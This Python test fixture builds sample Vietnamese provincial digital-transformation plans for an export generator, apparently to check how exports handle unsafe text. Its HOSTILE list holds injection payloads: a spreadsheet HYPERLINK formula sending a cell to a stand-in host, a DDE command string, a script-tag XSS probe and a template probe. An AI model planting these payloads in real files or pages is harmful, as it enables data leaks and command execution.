"""A small library made of model objects: every kind of part, and text that means harm."""

from collections.abc import Mapping
from datetime import date
from decimal import Decimal
from typing import Any

from generator.diagnostics import Diagnostic, Figures, Finding, Rule, Severity, Status
from generator.exports import ExportInput
from generator.model import (
    PART_MODELS,
    REGISTRY_MODELS,
    Annex,
    Group,
    Library,
    Plan,
    Registry,
    Task,
)

HOSTILE = (
    '=HYPERLINK("http://xau.example/?x="&A1,"bấm vào đây")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "@SUM(A1:A9)",
    "#N/A",
    "dòng một\ndòng hai",
    'có "ngoặc kép", dấu phẩy; chấm phẩy và \\ gạch chéo',
    "</script><script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %}",
    " khoảng trắng hai đầu ",
    "nguyên văn _x000D_ và xuống dòng kiểu cũ\rở đây",
    "tab\tở giữa",
    "2025-09-22",
    "001",
    "1.10",
)
"""Texts that a reader of files may take for something else than text."""

REGISTRY: dict[str, Any] = {
    "provinces": {
        "vi-du": {
            "name": "Ví Dụ",
            "kind": "tỉnh",
            "code": "01",
            "valid_from": "2025-07-01",
            "predecessors": ["vi-du-cu", "mau-cu"],
            "document": "nq-02-2024",
        },
        "vi-du-cu": {"name": "Ví Dụ Cũ", "kind": "tỉnh", "valid_to": "2025-06-30"},
        "mau-cu": {"name": "Mẫu Cũ", "kind": "thành phố", "valid_to": "2025-06-30"},
    },
    "agencies": {
        "ubnd-tinh": {
            "name": "Ủy ban nhân dân tỉnh",
            "kind": "government",
            "aliases": ["UBND tỉnh", "Uỷ ban; nhân dân \\ tỉnh"],
        },
        "so-tai-chinh": {"name": "Sở Tài chính", "kind": "government"},
        "so-y-te": {"name": "Sở Y tế", "kind": "government"},
        "cac-so": {"name": "Các sở, ngành", "kind": "collective", "collective": True},
    },
    "documents": {
        "nq-02-2024": {
            "kind": "Nghị quyết",
            "number": "02/2024/QH",
            "title": "Về việc thành lập tỉnh Ví Dụ",
            "issued_on": "2024-12-01",
        },
        "kh-05-2023": {"kind": "Kế hoạch", "number": "05/KH-UBND", "title": "Chuyển đổi số"},
    },
    "units": {
        "vnd": {"name": "đồng", "kind": "money", "factor_vnd": 1},
        "million-vnd": {"name": "triệu đồng", "kind": "money", "factor_vnd": 1000000},
        "percent": {"name": "%", "kind": "percent"},
    },
    "concepts": {
        "online": {
            "name": "Trực tuyến toàn trình",
            "definition": "Hồ sơ trực tuyến trên tổng số.",
            "unit": "percent",
            "better": "higher",
        }
    },
}

META: dict[str, Any] = {
    "number": "01/KH-UBND",
    "kind": "ke-hoach",
    "title": "Kế hoạch chuyển đổi số tỉnh Ví Dụ",
    "short_title": "Chuyển đổi số",
    "issuer": "ubnd-tinh",
    "signer": {"name": "Người Ký", "role": "Chủ tịch"},
    "issued_on": "2025-09-22",
    "effective_on": "2025-10-01",
    "period": "2025-2030",
    "vision_year": 2045,
    "summary": "Kế hoạch không có thật, viết ra để thử.",
    "legal_bases": [{"document": "nq-02-2024", "code": "1", "place": "Căn cứ"}],
    "implements": ["nq-02-2024"],
    "replaces": [{"document": "kh-05-2023"}],
    "source": {"description": "Bản thử.", "url": "https://vi-du.example/kh-01.pdf"},
    "coverage": {
        "objectives": {"state": "complete"},
        "context": {"state": "not-in-source", "note": "Không có."},
    },
    "notes": [{"place": "Trang 1", "text": "Ghi chú."}],
    "previous_ids": ["vi-du/kh-cu"],
}

OBJECTIVES = [
    {"id": "chung", "kind": "general", "place": "Mục I", "wording": "printed", "text": "Số hóa."},
    {
        "id": "truc-tuyen",
        "kind": "specific",
        "code": "1",
        "place": "Mục I, điểm 2",
        "wording": "printed",
        "text": "Đến năm 2030 đạt tối thiểu 90%.",
        "indicators": ["truc-tuyen"],
        "states": [
            {
                "indicator": "truc-tuyen",
                "period": 2030,
                "comparator": ">=",
                "value": 90,
                "text": "tối thiểu 90%",
            }
        ],
    },
]

INDICATORS = [
    {
        "id": "truc-tuyen",
        "code": "1.10",
        "name": "Tỷ lệ hồ sơ trực tuyến toàn trình",
        "place": "Bảng chỉ tiêu, dòng 1",
        "unit": "percent",
        "theme": "Chính quyền số",
        "owner": "Sở Y tế, Sở Tài chính",
        "better": "higher",
        "concept": "online",
        "baselines": [
            {
                "period": 2024,
                "area": "vi-du-cu",
                "value": 42.05,
                "rank": 7,
                "rank_of": 63,
                "text": "42,05 (7/63)",
            }
        ],
        "targets": [
            {"period": 2025, "comparator": "=", "value": 0.1, "text": "0,1"},
            {
                "period": "2026-2030",
                "comparator": "range",
                "value": 60,
                "value_max": 70.1,
                "per_year": True,
                "text": "60 - 70,1%",
            },
            {"period": 2030, "comparator": "qualitative", "text": "Cao hơn năm trước"},
        ],
    }
]

COLUMNS = [
    {"id": "y2025", "label": "Năm 2025", "period": 2025, "source": "Ngân sách tỉnh"},
    {"id": "y2026-2030", "label": "Giai đoạn 2026 - 2030", "period": "2026-2030"},
    {"id": "total", "label": "Tổng cộng", "adds": ["y2025", "y2026-2030"]},
]

ANNEX: dict[str, Any] = {
    "title": "Danh mục nhiệm vụ",
    "place": "Phụ lục I",
    "unit": "million-vnd",
    "columns": COLUMNS,
    "total_label": "TỔNG CỘNG",
    "stated": {"total": 5698358, "y2025": 257898},
    "rows": [
        {
            "group": "A",
            "title": "Chính quyền số",
            "stated": {"y2025": 257898},
            "rows": [
                {
                    "group": "I",
                    "title": "Dịch vụ công",
                    "rows": [
                        {
                            "task": "1",
                            "title": "Nâng cấp cổng dịch vụ công",
                            "lead": "Sở Y tế",
                            "coordinators": "Sở Tài chính; Các sở, ngành (nếu có)",
                            "schedule": "2025 - 2030",
                            "result": "Cổng mới",
                            "amounts": {"total": 100, "y2025": 0, "y2026-2030": 100},
                            "remark": "Chuyển tiếp",
                        },
                        {
                            "task": "1.10",
                            "title": "Khảo sát",
                            "schedule_as": {
                                "start": 2025,
                                "end": 2026,
                                "due": "2026-06-30",
                                "recurrence": "hằng quý",
                                "condition": "sau khi có hướng dẫn",
                                "note": "Văn bản không ghi rõ.",
                            },
                        },
                    ],
                }
            ],
        },
        {"task": "2", "title": "Nhiệm vụ ngoài nhóm", "amounts": {"total": 10**17}},
    ],
}

AGENCY_ANNEX: dict[str, Any] = {
    "title": "Nhiệm vụ theo cơ quan",
    "place": "Phụ lục II",
    "unit": "vnd",
    "group_by": "agency",
    "rows": [
        {"group": "1", "title": "Sở Tài chính", "rows": [{"task": "a", "title": "Bố trí vốn"}]}
    ],
}

BUDGET: dict[str, Any] = {
    "place": "Mục III",
    "statements": [
        {
            "id": "tong",
            "title": "Tổng kinh phí",
            "place": "Mục III",
            "unit": "million-vnd",
            "amount": 5698358,
            "words": "Năm nghìn sáu trăm chín mươi tám tỷ",
            "adds": [{"annex": "phu-luc-1", "column": "total"}],
        }
    ],
    "sources": [
        {"code": "1", "title": "Ngân sách tỉnh", "unit": "vnd", "amount": 5000},
        {"title": "Nguồn khác"},
    ],
    "sources_of": "tong",
}

ACTIONS = [
    {
        "id": "nhiem-vu",
        "title": "Nhiệm vụ trọng tâm",
        "place": "Mục II",
        "announced": [{"text": "01 nhóm", "count": 1, "of": "groups"}],
        "groups": [
            {
                "id": "ha-tang",
                "code": "1.1",
                "title": "Hạ tầng",
                "place": "Mục II.1",
                "items": [{"code": "a", "title": "Phủ sóng"}, {"code": "b", "title": "Cáp quang"}],
            }
        ],
    }
]

ORGANISATION: dict[str, Any] = {
    "duties": [
        {
            "id": "tai-chinh",
            "code": "1",
            "agency": "Sở Tài chính",
            "place": "Mục IV",
            "summary": ["Bố trí vốn; kiểm tra.", "Báo cáo."],
        },
        {
            "id": "doan-the",
            "agency": "Mặt trận",
            "place": "Mục IV",
            "requested": True,
            "summary": ["Giám sát."],
        },
    ],
    "reporting": [
        {
            "place": "Mục IV",
            "cycle": "6 tháng",
            "from": "Các sở, ngành",
            "days": ["15/6", "15/12"],
            "due": ["2026-06-15", "2026-12-15"],
            "text": "Báo cáo định kỳ.",
        }
    ],
}

SUM_RULE = Rule("B101", "row-sum-mismatch", Severity.ERROR, "Tổng sai")
NOTE_RULE = Rule("D104", "unclear-task", Severity.NOTE, "Chưa rõ")


def part(name: str, value: Mapping[str, Any]) -> Any:
    """A part of a plan or of the registry as its model reads it."""
    return {**PART_MODELS, **REGISTRY_MODELS}[name].model_validate(value)


def sample_registry() -> Registry:
    """The registry of the sample."""
    return Registry(
        **{name: getattr(part(name, {name: items}), name) for name, items in REGISTRY.items()}
    )


def sample_plan() -> Plan:
    """A plan that has every part."""
    return Plan(
        "vi-du",
        "01-kh-2025",
        part("plan", META),
        objectives=part("objectives", {"objectives": OBJECTIVES}),
        indicators=part("indicators", {"indicators": INDICATORS}),
        actions=part("actions", {"groups": ACTIONS}),
        annexes={"phu-luc-1": part("annex", ANNEX), "phu-luc-2": part("annex", AGENCY_ANNEX)},
        budget=part("budget", BUDGET),
        organisation=part("organisation", ORGANISATION),
    )


def hostile_plan() -> Plan:
    """A plan whose task titles, cells and group titles mean harm, past all validation."""
    tasks = tuple(
        Task.model_construct(task=str(at), title=words, remark=words, lead=words)
        for at, words in enumerate(HOSTILE, start=1)
    )
    group = Group.model_construct(group="I", title=HOSTILE[0], rows=tasks)
    annex = Annex.model_construct(title=HOSTILE[1], place=HOSTILE[2], unit="vnd", rows=(group,))
    meta = {**META, "number": None, "source": {"description": "Bản thử."}, "previous_ids": []}
    return Plan("vi-du", "02-xau-2025", part("plan", meta), annexes={"phu-luc": annex})


def sample_diagnostics() -> tuple[Diagnostic, ...]:
    """A finding of the registry, given last, and three of the plan, one of them accepted."""

    def found(rule: Rule, place: str, **more: Any) -> Diagnostic:
        figures = more.pop("figures", None)
        finding = Finding(rule, (place,), f"Sai ở {place}.", figures=figures)
        return Diagnostic(finding, f"plans/{place}.yaml", 3, 1, place, **more)

    plan_id = "vi-du/01-kh-2025"
    return (
        found(
            SUM_RULE,
            "annexes/phu-luc-1/rows/A/stated/y2025",
            plan_id=plan_id,
            figures=Figures(257898, 0, "million-vnd"),
        ),
        found(
            SUM_RULE,
            "annexes/phu-luc-1/stated/total",
            plan_id=plan_id,
            figures=Figures(5698358, 5698438, "million-vnd"),
            status=Status.ACCEPTED,
            reason="Văn bản in như vậy.",
        ),
        found(
            SUM_RULE,
            "indicators/truc-tuyen",
            plan_id=plan_id,
            figures=Figures(Decimal("42.05"), Decimal("41.95"), "percent"),
        ),
        found(NOTE_RULE, "registry/agencies"),
    )


def sample_input() -> ExportInput:
    """The whole sample: two plans, findings, a commit and its day."""
    return ExportInput(
        library=Library((sample_plan(), hostile_plan()), sample_registry()),
        diagnostics=sample_diagnostics(),
        generated_from="0123456789abcdef0123456789abcdef01234567",
        data_date=date(2025, 11, 24),
    )
